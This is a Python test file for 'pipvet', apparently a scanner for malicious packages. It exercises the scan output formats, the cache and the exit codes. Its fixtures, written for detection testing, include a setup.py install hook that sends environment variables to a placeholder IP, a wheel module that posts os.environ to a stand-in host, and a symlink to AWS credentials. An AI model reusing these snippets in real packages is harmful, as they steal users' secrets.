"""`pipvet scan` end to end: real corpus samples (read as bytes), trees, folders, the cache,
parallel jobs, JSON/SARIF shape and exit codes."""

from __future__ import annotations

import io
import json
import sqlite3
import subprocess
import sys
import tarfile
from pathlib import Path

import jsonschema
import pytest

from pipvet.cli.main import main
from pipvet.services.scan import ScanInput, engine_version, scan_files, scan_inputs

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus" / "malicious"
needs_corpus = pytest.mark.skipif(not CORPUS.is_dir(), reason="shared corpus not present")

FINDING = {
    "type": "object",
    "required": ["rule", "category", "severity", "path", "line", "message", "evidence"],
    "additionalProperties": False,
    "properties": {
        "rule": {"type": "string", "minLength": 1},
        "category": {"type": "string", "minLength": 1},
        "severity": {"enum": ["info", "low", "medium", "high", "critical"]},
        "path": {"type": "string"},
        "line": {"type": ["integer", "null"]},
        "message": {"type": "string", "minLength": 1},
        "evidence": {"type": "string"},
    },
}
SCHEMA = {
    "type": "object",
    "required": ["artifacts"],
    "additionalProperties": False,
    "properties": {
        "artifacts": {
            "type": "array",
            "items": {
                "type": "object",
                "additionalProperties": False,
                "required": [
                    "name",
                    "version",
                    "filename",
                    "sha256",
                    "verdict",
                    "score",
                    "findings",
                ],
                "properties": {
                    "name": {"type": ["string", "null"]},
                    "version": {"type": ["string", "null"]},
                    "filename": {"type": "string"},
                    "sha256": {"type": ["string", "null"]},
                    "verdict": {"enum": ["clean", "risky", "suspicious", "malicious"]},
                    "score": {"type": "integer", "minimum": 0, "maximum": 100},
                    "findings": {"type": "array", "items": FINDING},
                },
            },
        }
    },
}
RANK = {"clean": 0, "risky": 1, "suspicious": 2, "malicious": 3}

EXFIL_SETUP = """\
import os, socket, base64
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        data = base64.b64encode(repr(dict(os.environ)).encode())
        s = socket.socket()
        s.connect(("203.0.113.7", 4444))
        s.send(data)
        install.run(self)

setup(name="demo", version="1.0", cmdclass={"install": PostInstall})
"""


@pytest.fixture(autouse=True)
def _own_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))


def run_json(capsys, *argv: str) -> tuple[int, dict]:
    code = main(["scan", "--format", "json", *argv])
    out = capsys.readouterr().out
    doc = json.loads(out)
    jsonschema.validate(doc, SCHEMA)
    return code, doc


def expected_code(doc: dict, fail_on: str = "suspicious") -> int:
    return int(any(RANK[a["verdict"]] >= RANK[fail_on] for a in doc["artifacts"]))


def corpus_samples(n: int) -> list[Path]:
    files = sorted(
        p for p in CORPUS.rglob("*") if p.is_file() and p.name.endswith((".tar.gz", ".whl", ".zip"))
    )
    step = max(1, len(files) // n)
    return files[::step][:n]


def write_sdist(path: Path, files: dict[str, str]) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, text in files.items():
            data = text.encode()
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    path.write_bytes(buf.getvalue())
    return path


@needs_corpus
def test_json_on_real_malicious_samples(capsys):
    samples = corpus_samples(8)
    code, doc = run_json(capsys, *map(str, samples))
    assert len(doc["artifacts"]) == len(samples)
    assert {a["filename"] for a in doc["artifacts"]} == {p.name for p in samples}
    for a in doc["artifacts"]:
        assert len(a["sha256"]) == 64
    assert code == expected_code(doc)
    # the --fail-on threshold decides the exit code
    code_mal, doc_mal = run_json(capsys, "--fail-on", "malicious", *map(str, samples))
    assert code_mal == expected_code(doc_mal, "malicious")


def test_tree_with_hostile_link_and_exfil(tmp_path, capsys):
    tree = tmp_path / "demo-1.0"
    (tree / "demo").mkdir(parents=True)
    (tree / "setup.py").write_text(EXFIL_SETUP)
    (tree / "demo" / "__init__.py").write_text("")
    (tree / "demo" / "creds").symlink_to(Path.home() / ".aws" / "credentials")
    code, doc = run_json(capsys, str(tree))
    (art,) = doc["artifacts"]
    assert art["filename"] == "demo-1.0" and art["name"] == "demo" and art["sha256"] is None
    rules = {f["rule"]: f for f in art["findings"]}
    assert rules["archive.symlink"]["path"] == "demo/creds"
    assert any(f["path"] == "setup.py" for f in art["findings"] if f["category"] != "archive")
    assert art["verdict"] != "clean"
    assert code == expected_code(doc)


def test_folder_is_searched_recursively(tmp_path, capsys):
    folder = tmp_path / "dl"
    (folder / "sub").mkdir(parents=True)
    write_sdist(folder / "a-1.0.tar.gz", {"a-1.0/setup.py": "from setuptools import setup\n"})
    write_sdist(folder / "sub" / "b-2.0.tar.gz", {"b-2.0/b.py": "x = 1\n"})
    (folder / "sub" / "notes.txt").write_text("not an artifact")
    tree = folder / "c-3.0"
    tree.mkdir()
    (tree / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: c\nVersion: 3.0\n")
    code, doc = run_json(capsys, str(folder))
    names = sorted((a["name"], a["version"]) for a in doc["artifacts"])
    assert names == [("a", "1.0"), ("b", "2.0"), ("c", "3.0")]
    assert code == expected_code(doc)


def test_hostile_archive_gives_findings_not_a_crash(tmp_path, capsys):
    good = write_sdist(
        tmp_path / "t-1.0.tar.gz", {f"t-1.0/m{i}.py": "x = 1\n" * 3000 for i in range(10)}
    )
    cut = tmp_path / "cut-1.0.tar.gz"
    cut.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    junk = tmp_path / "junk-1.0.whl"
    junk.write_bytes(b"PK\x03\x04" + b"\xff" * 300)
    code, doc = run_json(capsys, str(cut), str(junk))
    by = {a["filename"]: {f["rule"] for f in a["findings"]} for a in doc["artifacts"]}
    assert "archive.truncated" in by["cut-1.0.tar.gz"]
    assert "archive.malformed" in by["junk-1.0.whl"]
    assert code == expected_code(doc)


def test_cache_hit_and_no_cache(tmp_path):
    art = write_sdist(tmp_path / "demo-1.0.tar.gz", {"demo-1.0/setup.py": EXFIL_SETUP})
    first = scan_files([art])
    assert not first[0].cached
    db = sqlite3.connect(tmp_path / "cache" / "scan-results.sqlite3")
    rows = db.execute("SELECT sha256, engine FROM scan_results").fetchall()
    assert rows == [(first[0].sha256, engine_version())]
    second = scan_files([art])
    assert second[0].cached
    assert (second[0].verdict, second[0].score, second[0].findings) == (
        first[0].verdict,
        first[0].score,
        first[0].findings,
    )
    assert not scan_files([art], use_cache=False)[0].cached
    # an entry for another engine version is not a hit
    db.execute("UPDATE scan_results SET engine = 'old'")
    db.commit()
    assert not scan_files([art])[0].cached


def test_parallel_jobs_give_the_same_results(tmp_path):
    paths = [
        write_sdist(
            tmp_path / f"p{i}-1.0.tar.gz",
            {f"p{i}-1.0/setup.py": EXFIL_SETUP if i % 2 else "x = 1\n"},
        )
        for i in range(6)
    ]
    one = scan_files(paths, jobs=1, use_cache=False)
    two = scan_files(paths, jobs=2, use_cache=False)
    assert [r.filename for r in two] == [p.name for p in paths]
    assert [(r.verdict, r.score, r.findings) for r in one] == [
        (r.verdict, r.score, r.findings) for r in two
    ]
    code = main(["scan", "--jobs", "2", "--no-cache", *map(str, paths)])
    assert code == int(any(RANK[r.verdict] >= 2 for r in one))


def test_text_output_verdicts_first_worst_first(tmp_path, capsys):
    bad = write_sdist(tmp_path / "bad-1.0.tar.gz", {"bad-1.0/setup.py": EXFIL_SETUP})
    ok = write_sdist(tmp_path / "ok-1.0.tar.gz", {"ok-1.0/ok.py": "def f():\n    return 1\n"})
    reports = {r.filename: r for r in scan_files([ok, bad], use_cache=False)}
    main(["scan", str(ok), str(bad)])
    out = capsys.readouterr().out.splitlines()
    ranked = sorted(reports.values(), key=lambda r: -RANK[r.verdict])
    for line, report in zip(out, ranked, strict=False):
        assert line.split()[0] == report.verdict.upper() and report.filename in line
    assert "2 artifacts scanned" in "\n".join(out)
    if len(reports["bad-1.0.tar.gz"].findings) > 5:
        assert any("more (use -v)" in line for line in out)


def test_sarif_output(tmp_path, capsys):
    bad = write_sdist(tmp_path / "bad-1.0.tar.gz", {"bad-1.0/setup.py": EXFIL_SETUP})
    main(["scan", "--format", "sarif", str(bad)])
    doc = json.loads(capsys.readouterr().out)
    assert doc["version"] == "2.1.0"
    (run,) = doc["runs"]
    report = scan_files([bad])[0]
    shown = [f for f in report.findings if f.severity != "info"]
    assert len(run["results"]) == len(shown)
    assert {r["ruleId"] for r in run["results"]} == {
        d["id"] for d in run["tool"]["driver"]["rules"]
    }


def test_usage_errors(tmp_path, capsys):
    assert main(["scan"]) == 2
    assert main(["scan", str(tmp_path / "missing.whl")]) == 2
    assert main(["scan", "not a requirement!!"]) == 2
    assert main(["scan", "--jobs", "0", str(tmp_path)]) == 2
    assert "nothing to scan" in capsys.readouterr().err


def test_installed_distribution_is_read_from_its_record(capsys):
    _, doc = run_json(capsys, "--installed", "packaging", "--all-findings")
    (art,) = doc["artifacts"]
    assert art["name"] == "packaging" and "installed" in art["filename"]
    assert art["version"]
    assert not any(f["rule"] == "archive.outside-tree" for f in art["findings"])
    items = [ScanInput(Path("/nonexistent"), "x", kind="installed", files=("a.py",))]
    assert scan_inputs(items, use_cache=False)[0].findings == ()


def test_installed_distribution_of_another_environment(tmp_path, capsys):
    from tests.support.index_builder import build_wheel

    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    stealer = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('https://x.invalid', data=str(os.environ).encode())\n"
    )
    filename, data, _ = build_wheel("envgrab", "1.0", files={"envgrab/__init__.py": stealer})
    wheel = tmp_path / filename
    wheel.write_bytes(data)
    # pip installs the wheel (it runs no code of a wheel) into the other venv
    subprocess.run(
        [sys.executable, "-m", "pip", "--python", str(venv / "bin" / "python"), "install",
         "-q", "--no-index", "--no-deps", str(wheel)],
        check=True,
    )  # fmt: skip
    code, doc = run_json(capsys, "--installed", "envgrab", "--python", str(venv))
    (art,) = doc["artifacts"]
    assert art["name"] == "envgrab" and art["verdict"] == "malicious" and code == 1
    assert any(f["path"] == "envgrab/__init__.py" for f in art["findings"])
    # pipvet's own environment does not have it; --python without --installed is a usage error
    assert main(["scan", "--installed", "envgrab"]) == 2
    assert main(["scan", "--python", str(venv), str(wheel)]) == 2
    err = capsys.readouterr().err
    assert "envgrab is not installed" in err and "--python goes with --installed" in err


def test_odd_code_gives_no_warnings_on_stderr(tmp_path):
    # pytest swallows warnings, so run the real command in its own process
    art = write_sdist(tmp_path / "odd-1.0.tar.gz", {"odd-1.0/odd.py": "x = 1if 1 else 2\n"})
    proc = subprocess.run(
        [sys.executable, "-m", "pipvet", "scan", "--jobs", "1", "--no-cache", str(art)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode in (0, 1), proc.stderr
    assert "odd-1.0.tar.gz" in proc.stdout
    assert "Warning" not in proc.stderr
